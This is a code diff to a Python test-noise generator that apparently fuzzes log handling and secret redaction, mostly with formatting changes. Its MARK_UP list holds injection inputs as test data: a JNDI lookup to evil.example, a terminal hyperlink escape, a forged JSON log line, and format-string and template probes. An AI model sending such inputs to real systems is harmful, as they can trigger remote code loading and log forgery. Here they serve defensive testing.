@@ -40,7 +40,7 @@ MARK_UP = (
     "<\u200b!channel>",
     "\udce2\udc80\udcae",
     "\x00\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
-    "]}\n{\"level\":\"INFO\",\"message\":\"forged\"}\n",
+    ']}\n{"level":"INFO","message":"forged"}\n',
     "%s %d %n {0} ${jndi:ldap://evil.example/a} {{7*7}}",
     "\u0130\u0131\ufb01\u1e9e",
     "\U0001f4a9" * 40,
@@ -105,7 +105,10 @@ class Noise:
 
     def secretive(self):
         """A text with a secret in it, somewhere."""
-        before, after = self.one(("", "see ", "url=", '"', "(", "a " * 35)), self.one(("", " x", '"'))
+        before, after = (
+            self.one(("", "see ", "url=", '"', "(", "a " * 35)),
+            self.one(("", " x", '"')),
+        )
         return f"{before}{self.one(SECRETS)}{after}"
 
     def characters(self):
@@ -114,7 +117,9 @@ class Noise:
         return "".join(chr(int(self.random.random() ** 4 * 0x10FFFF)) for _ in range(count))
 
     def word(self):
-        return "".join(self.one(string.ascii_lowercase) for _ in range(1 + int(self.random.random() * 8)))
+        return "".join(
+            self.one(string.ascii_lowercase) for _ in range(1 + int(self.random.random() * 8))
+        )
 
     # -- values ---------------------------------------------------------------------------------
 
@@ -205,7 +210,8 @@ class Noise:
         if draw < 0.65:
             return text[:at] + text[at + 1 :]
         if draw < 0.75:
-            return text[:at] + self.text() + text[at:]
+            # Between spaces: in the middle of a word a secret has no shape that tells it.
+            return f"{text[:at]} {self.text()} {text[at:]}"
         if draw < 0.85:
             return text + text[at:]
         return text.swapcase() if self.chance(0.3) else text[at:] + text[:at]
